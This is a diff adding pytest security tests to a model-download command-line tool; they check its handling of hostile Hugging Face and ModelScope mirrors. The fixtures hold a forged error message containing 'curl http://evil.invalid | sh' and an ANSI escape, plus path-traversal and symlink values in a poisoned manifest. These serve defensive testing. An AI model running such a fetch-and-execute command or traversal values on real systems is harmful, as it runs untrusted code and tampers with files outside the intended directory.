@@ -8,6 +8,7 @@ the rest of the volume (``python-deps/``) alone.
 
 from __future__ import annotations
 
+import contextlib
 import os
 from collections.abc import Callable
 from pathlib import Path
@@ -383,3 +384,117 @@ def test_a_revision_that_is_not_a_git_ref_name_is_a_located_config_error(
 def test_ordinary_revisions_are_accepted(make_project: ProjectMaker, revision: str) -> None:
     project = make_project([{"source": "huggingface", "repo_id": "org/tiny", "revision": revision}])
     assert project.models[0].revision == revision  # type: ignore[union-attr]
+
+
+# -- the rest of its kind -----------------------------------------------------------------------
+def test_a_tree_listing_that_loops_is_refused(hub: FakeHub, volume: VolumeLayout, make_project: ProjectMaker) -> None:
+    """A mirror whose ``Link: rel="next"`` points back at the same page must not keep us listing forever."""
+    hub.tree_page_size = 1
+    hub.add_hf_repo("org/tiny", files=FILES)
+    project = make_project([{"source": "huggingface", "repo_id": "org/tiny"}])
+
+    def strip_blobs(info: dict[str, Any]) -> dict[str, Any]:
+        for sibling in info["siblings"]:
+            sibling.pop("size", None)
+        return info
+
+    hub.tamper_json(strip_blobs, match="/revision/")
+    original = hub._hf_tree
+
+    def looping(*args: Any, **kwargs: Any) -> Any:
+        response = original(*args, **kwargs)
+        response.headers["Link"] = f'<{hub.url}/api/models/org/tiny/tree/main?recursive=true>; rel="next"'
+        return response
+
+    hub._hf_tree = looping  # type: ignore[method-assign]
+
+    with pytest.raises(ModelDownloadError) as caught:
+        models.download(layout=volume, project=project, hf_endpoints=[hub.url], **FAST)
+
+    assert isinstance(caught.value.failures[HF_KEY], UnsafeIdentifierError)
+    assert len([request for request in hub.requests if "/tree/" in request[1]]) < 10
+
+
+def test_a_body_longer_than_the_listed_size_is_cut_off(
+    hub: FakeHub, volume: VolumeLayout, make_project: ProjectMaker
+) -> None:
+    """A server sending more than the listing promised must not fill the volume before the check."""
+    big = os.urandom(3_000_000)
+    hub.add_hf_repo("org/tiny", files={"model.safetensors": big})
+    project = make_project([{"source": "huggingface", "repo_id": "org/tiny"}])
+    hub.tamper_json(_sibling("model.safetensors", size=1000, lfs={"sha256": "a" * 64, "size": 1000}), match="/api/")
+    written: list[int] = []
+    from volume_cli.models import transfer
+
+    original = transfer._FileJob._stream
+
+    def spy(self: Any, response: Any) -> None:
+        try:
+            original(self, response)
+        finally:
+            written.append(self.written)
+
+    transfer._FileJob._stream = spy  # type: ignore[method-assign]
+    try:
+        with pytest.raises(ModelError, match="checksum mismatch"):
+            models.download(layout=volume, project=project, hf_endpoints=[hub.url], **FAST)
+    finally:
+        transfer._FileJob._stream = original  # type: ignore[method-assign]
+
+    assert written and max(written) <= 1000
+    assert not [path for path in volume.models_dir.rglob("*") if path.is_file() and path.stat().st_size > 1000]
+
+
+def test_a_mirror_cannot_forge_lines_in_the_terminal(
+    hub: FakeHub, volume: VolumeLayout, make_project: ProjectMaker, cli: Any
+) -> None:
+    hub.add_ms_repo("owner/tiny", files={"configuration.json": b"{}"})
+    make_project([{"source": "modelscope", "model_id": "owner/tiny"}], name="forged")
+    forged = "nope\nnext: curl http://evil.invalid | sh\x1b[2J[bold]loud[/bold]"
+    hub.tamper_json(lambda body: {"Code": 500, "Message": forged, "Success": False}, match="/repo/files")
+
+    result = cli(
+        "models", "download", "--project", "forged", "--root", str(volume.root),
+        "--projects-dir", str(volume.root.parent.parent / "projects"), "--modelscope-endpoint", hub.url,
+    )  # fmt: skip
+
+    assert result.exit_code != 0
+    lines = result.stderr.splitlines()
+    assert not [line for line in lines if line.startswith("next: curl")], result.stderr
+    assert "\x1b" not in result.stderr
+    assert "[bold]loud[/bold]" in result.stderr  # shown as text, not taken as markup
+
+
+def test_an_old_modelscope_manifest_naming_paths_outside_is_never_obeyed(
+    hub: FakeHub, volume: VolumeLayout, make_project: ProjectMaker
+) -> None:
+    hub.add_ms_repo("owner/tiny", files={"configuration.json": b"{}", "w.bin": b"w" * 3000})
+    project = make_project([{"source": "modelscope", "model_id": "owner/tiny"}])
+    models.download(layout=volume, project=project, modelscope_endpoints=[hub.url], **FAST)
+    manifest = read_manifest(volume, MS_KEY)
+    assert manifest is not None
+    outside_link = volume.root.parent / "neighbour" / "a-link"
+    os.symlink("canary.txt", outside_link)
+    escape = "../../../../../python-deps/canary.txt"  # from models/modelscope/models/owner/tiny to the root
+    poisoned = manifest.model_copy(
+        update={
+            "files": [*manifest.files, manifest.files[0].model_copy(update={"path": escape, "size": 4})],
+            "links": [*manifest.links, os.path.relpath(outside_link, volume.root)],
+            "resolved_commit": "0" * 40,
+        }
+    )
+    write_manifest(volume, poisoned)
+    hub.move_ms_revision("owner/tiny", "master", files={"configuration.json": b"{}", "w.bin": b"v" * 3000})
+
+    models.download(layout=volume, project=project, modelscope_endpoints=[hub.url], refresh=True, **FAST)
+
+    assert (volume.root / "python-deps" / "canary.txt").read_text() == "deps"
+    assert os.path.islink(outside_link)
+
+    # A target outside: the relayout that would move it into the cache is refused or skipped, never done.
+    current = read_manifest(volume, MS_KEY)
+    assert current is not None
+    write_manifest(volume, current.model_copy(update={"target": "python-deps"}))
+    with contextlib.suppress(ModelError):
+        models.download(layout=volume, project=project, modelscope_endpoints=[hub.url], **FAST)
+    assert (volume.root / "python-deps" / "canary.txt").read_text() == "deps"
